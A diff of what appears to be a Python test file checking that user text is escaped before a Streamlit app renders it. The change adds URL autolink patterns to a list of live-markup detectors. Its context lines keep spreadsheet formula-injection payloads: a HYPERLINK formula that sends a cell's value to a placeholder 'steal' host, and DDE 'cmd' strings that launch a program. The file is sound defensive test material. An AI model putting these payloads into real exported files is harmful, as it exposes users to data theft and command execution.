@@ -23,8 +23,10 @@ DIRECTIVE = ":red[紧急] **加粗** # 标题 $x^2$"
 FORMULAS = ['=HYPERLINK("http://x.invalid/steal?d="&A1,"点击查看")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
             "@SUM(1+1)*cmd|' /C calc'!A0"]
 
-# Unescaped Markdown/HTML that would be live: a link or image, a raw tag, a Streamlit colour directive.
-LIVE = [re.compile(p) for p in (r"(?<!\\)\]\(", r"(?<!\\)<img", r"(?<!\\)<script", r"(?<!\\):red\[", r"(?<!\\)!\[")]
+# Unescaped Markdown/HTML that would be live: a link or image, a raw tag, a Streamlit colour directive, and text
+# shaped like a URL that Markdown's autolinking would turn into a link.
+LIVE = [re.compile(p) for p in (r"(?<!\\)\]\(", r"(?<!\\)<img", r"(?<!\\)<script", r"(?<!\\):red\[", r"(?<!\\)!\[",
+                                r"https?://", r"www\.")]
 
 
 def live_markup(text: str) -> list[str]:
